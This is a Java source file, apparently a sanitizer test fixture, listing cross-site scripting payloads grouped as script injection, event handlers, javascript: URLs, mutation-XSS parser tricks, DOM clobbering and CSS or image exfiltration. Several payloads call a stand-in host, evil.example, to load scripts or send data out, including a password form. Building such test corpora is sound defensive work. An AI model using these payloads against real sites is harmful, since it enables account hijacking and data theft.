package pageloom.markup;

import java.util.ArrayList;
import java.util.List;

/// Markup that tries to run, load or send something, by every way into a sanitizer that is known.
/// Whatever of it runs sets `window.ran` or opens a dialog.
final class Payloads {
  private Payloads() {}

  static List<String> all() {
    List<String> all = new ArrayList<>();
    all.addAll(SCRIPTS);
    all.addAll(HANDLERS);
    all.addAll(URLS);
    all.addAll(MUTATIONS);
    all.addAll(CLOBBERING);
    all.addAll(EXFILTRATION);
    return all.stream()
        .map(p -> p.replace("RUN", "window.ran=(window.ran||0)+1;alert(1)"))
        .toList();
  }

  private static final List<String> SCRIPTS =
      List.of(
          "<script>RUN</script>",
          "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>RUN</scr</script>ipt>",
          "<script x>RUN</script y>",
          "<script\n>RUN</script\t>",
          "<script/x>RUN</script>",
          "<svg><script>RUN</script></svg>",
          "<svg><script href='data:text/javascript,RUN'/></svg>",
          "<svg><script xlink:href='https://evil.example/x.js'></script></svg>",
          "<math><script>RUN</script></math>",
          "<svg:script>RUN</svg:script>",
          "<template><script>RUN</script></template>",
          "<template shadowrootmode=open><script>RUN</script></template>",
          "<noscript><script>RUN</script></noscript>",
          "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
          "<iframe src='javascript:parent.RUN'></iframe>",
          "<object data='javascript:RUN'></object>",
          "<object data='data:text/html,<script>RUN</script>'></object>",
          "<embed src='data:text/html,<script>RUN</script>'>",
          "<base href='https://evil.example/'><a href=x>x</a>",
          "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
          "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<link rel=prefetch href=https://evil.example/x>",
          "<style>@import 'https://evil.example/x.css';"
              + " *{background:url(https://evil.example/y)}</style>",
          "<frameset onload='RUN'><frame src='javascript:RUN'></frameset>",
          "<applet code=x></applet><isindex formaction='javascript:RUN' type=submit>",
          "<portal src='https://evil.example'></portal><fencedframe></fencedframe>",
          "<!--><img src onerror=RUN>-->",
          "<!--[if IE]><script>RUN</script><![endif]-->",
          "<?xml-stylesheet href='javascript:RUN'?><p>x",
          "<![CDATA[<script>RUN</script>]]>",
          "<!doctype html><html><head><script>RUN</script></head><body onload=RUN>x</body></html>");

  private static final List<String> HANDLERS =
      List.of(
          "<img src=x onerror=RUN>",
          "<img src=x ONERROR='RUN'>",
          "<img/src=x/onerror=RUN>",
          "<img src=x onerror\n=\nRUN>",
          "<img src=x on\u0000error=RUN>",
          "<img src='x' \u0000onerror=RUN>",
          "<image src=x onerror=RUN>",
          "<svg onload=RUN>",
          "<svg/onload=RUN>",
          "<svg><g onload=RUN></g></svg>",
          "<svg><image href=x onerror=RUN /></svg>",
          "<body onload=RUN>",
          "<input autofocus onfocus=RUN>",
          "<button autofocus onfocus=RUN>x</button>",
          "<select autofocus onfocus=RUN><option>x</select>",
          "<textarea autofocus onfocus=RUN></textarea>",
          "<details open ontoggle=RUN><summary>x</summary></details>",
          "<div popover id=p onbeforetoggle=RUN></div><button popovertarget=p>x</button>",
          "<video src=x onerror=RUN></video>",
          "<video><source onerror=RUN src=x></video>",
          "<audio src=x onerror=RUN></audio>",
          "<marquee onstart=RUN>x</marquee>",
          "<x-tag onpointerrawupdate=RUN onanimationstart=RUN class=animate-spin>x</x-tag>",
          "<div class=animate-pulse onanimationstart=RUN>x</div>",
          "<p style='animation:x' onanimationend=RUN>x</p>",
          "<a href=#x onclick=RUN onmouseover=RUN id=x>x</a>",
          "<div/onclick='RUN'/class='x'>x</div>",
          "<div \"onclick=RUN x=\">x</div>",
          "<p title='\"><img src=x onerror=RUN>'>x</p>",
          "<p title=`\"><img src=x onerror=RUN>`>x</p>",
          "<p class='\"><script>RUN</script>'>x</p>");

  private static final List<String> URLS =
      List.of(
          "<a href='javascript:RUN'>x</a>",
          "<a href=' &#1; jAvAsCrIpT:RUN'>x</a>",
          "<a href='java\nscript:RUN'>x</a>",
          "<a href='java&Tab;script&colon;RUN'>x</a>",
          "<a href='&#x6a;avascript&#58;RUN'>x</a>",
          "<a href='\u0000javascript:RUN'>x</a>",
          "<a href='\u00A0javascript:RUN'>x</a>",
          "<a href='vbscript:x'>x</a><a href='view-source:x'>y</a><a href='blob:x'>z</a>",
          "<a href='data:text/html,<script>RUN</script>'>x</a>",
          "<a href='file:///etc/passwd'>x</a><a href='//evil.example'>y</a>",
          "<a href='https:javascript:RUN'>x</a><a href='http:\\\\evil'>y</a>",
          "<a href='#' ping='https://evil.example/'>x</a>",
          "<a href='https://e.com' target=_blank rel=opener>x</a>",
          "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
          "<svg><a href='https://e.com' xlink:href='javascript:RUN'><text>x</text></a></svg>",
          "<svg><a><animate attributeName=href values='javascript:RUN'/><text>x</text></a></svg>",
          "<svg><a><set attributeName=href to='javascript:RUN'/><text>x</text></a></svg>",
          "<svg><use href='data:image/svg+xml,<svg id=x><script>RUN</script></svg>#x'/></svg>",
          "<svg><use xlink:href='https://evil.example/x.svg#x'/></svg>",
          "<svg><feImage href='https://evil.example/x'/></svg>",
          "<math href='javascript:RUN'><mi xlink:href='javascript:RUN'>x</mi></math>",
          "<form action='javascript:RUN'><button>x</button></form>",
          "<form><button formaction='javascript:RUN'>x</button></form>",
          "<form id=f></form><input form=f type=image src=x formaction='javascript:RUN'>",
          "<img src='javascript:RUN'><img src='data:image/svg+xml,<svg onload=RUN>'>",
          "<img src='data:text/html;base64,PHNjcmlwdD4='>",
          "<img srcset='javascript:RUN 1x, https://e.example/a 2x'>",
          "<video poster='javascript:RUN' src='data:video/mp4,x'></video>",
          "<blockquote cite='javascript:RUN'>x</blockquote><q cite='javascript:RUN'>x</q>",
          "<table background='javascript:RUN'><td background='javascript:RUN'>x</table>");

  private static final List<String> MUTATIONS =
      List.of(
          "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
          "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
          "<svg><style><img src=x onerror=RUN></style></svg>",
          "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
              + " onerror=RUN&gt;'>",
          "<math><mtext><table><mglyph><style><math><img src=x"
              + " onerror=RUN></style></table></mtext></math>",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
          "<svg><p><style><!--</style><img src=x onerror=RUN>--></style>",
          "<svg><foreignObject><div><style><a title='</style><img src=x"
              + " onerror=RUN>'></style></div></foreignObject></svg>",
          "<svg><desc><style><!--</style></desc><img src=x onerror=RUN>--></svg>",
          "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
          "<svg><title>&lt;/title&gt;&lt;img src=x onerror=RUN&gt;</title></svg>",
          "<title>&lt;img src=x onerror=RUN&gt;</title>",
          "<textarea></textarea><img src=x onerror=RUN></textarea>",
          "<textarea>&lt;/textarea&gt;&lt;img src=x onerror=RUN&gt;</textarea>",
          "<svg><textarea><img title='</textarea><img src=x onerror=RUN>'>",
          "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
          "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
          "<plaintext><img src=x onerror=RUN>",
          "<noembed><img title='</noembed><img src=x onerror=RUN>'></noembed>",
          "<noframes><img title='</noframes><img src=x onerror=RUN>'></noframes>",
          "<iframe><img title='</iframe><img src=x onerror=RUN>'></iframe>",
          "<select><style></select><img src=x onerror=RUN></style></select>",
          "<select><template><img src=x onerror=RUN></template></select>",
          "<select><iframe></select><img src=x onerror=RUN>",
          "<option><style></option></select><img src=x onerror=RUN></style></option>",
          "<table><caption><svg><title><table><img src=x"
              + " onerror=RUN></table></title></svg></caption></table>",
          "<p><svg><style><p title='</style><img src=x onerror=RUN>'>",
          "<a><table><a><td><img src=x onerror=RUN></table>",
          "<b><i><b><i><p><svg><desc><b><i><style><img src=x onerror=RUN>",
          "<template><svg><style><img src=x onerror=RUN></style></svg></template>",
          "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
          "<svg><!--<![CDATA[--><img src=x onerror=RUN>]]></svg>",
          "<svg><annotation-xml encoding='text/html'><img src=x"
              + " onerror=RUN></annotation-xml></svg>",
          "<math><annotation-xml encoding='text/html'><script>RUN</script></annotation-xml></math>",
          "&lt;img src=x onerror=RUN&gt;",
          "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
          "<div><!-- --!><img src=x onerror=RUN> --></div>",
          "<div><!-- -><img src=x onerror=RUN> --></div>",
          "<p id='&#x3c;img src=x onerror=RUN>'>x</p>",
          "\u003cimg src=x onerror=RUN\u003e",
          "<div>" + "<b>".repeat(60) + "<svg><style><img src=x onerror=RUN>");

  private static final List<String> CLOBBERING =
      List.of(
          "<form name=body><input name=firstChild><input id=attributes name=attributes></form>",
          "<img name=getElementById id=getElementById>",
          "<a id=location name=location href='https://evil.example/'>x</a>",
          "<form id=x><input name=parentNode><button name=submit>x</button></form>",
          "<a id=config></a><a id=config name=url href='https://evil.example'></a>",
          "<object name=cookie></object><embed name=forms><iframe name=top></iframe>",
          "<p id=hero>x</p><p id='hero'>y</p>");

  private static final List<String> EXFILTRATION =
      List.of(
          "<p style='background:url(https://evil.example/x)'>x</p>",
          "<p class='bg-[url(https://evil.example/x)]"
              + " [background:u\\72l(https://evil.example)]'>x</p>",
          "<p class='content-[image-set(\"https://evil.example/x\"_1x)]'>x</p>",
          "<svg><rect fill='url(https://evil.example/x#y)'/><path"
              + " mask='url(//evil.example)'/></svg>",
          "<svg style='filter:url(https://evil.example/x)'><rect style='fill:red'/></svg>",
          "<form action=https://evil.example/ method=post><input name=password"
              + " type=password></form>",
          "<img src=http://evil.example/x.png><img src=//evil.example/x"
              + " lowsrc=https://evil.example/y>",
          "<img src=https://ok.example/x dynsrc=https://evil.example/y"
              + " longdesc=https://evil.example/z>",
          "<audio autoplay src=http://evil.example/x></audio><bgsound src=https://evil.example>",
          "<svg><image href='https://evil.example/x'/></svg>",
          "<picture><source srcset='http://evil.example/x'></picture>");
}
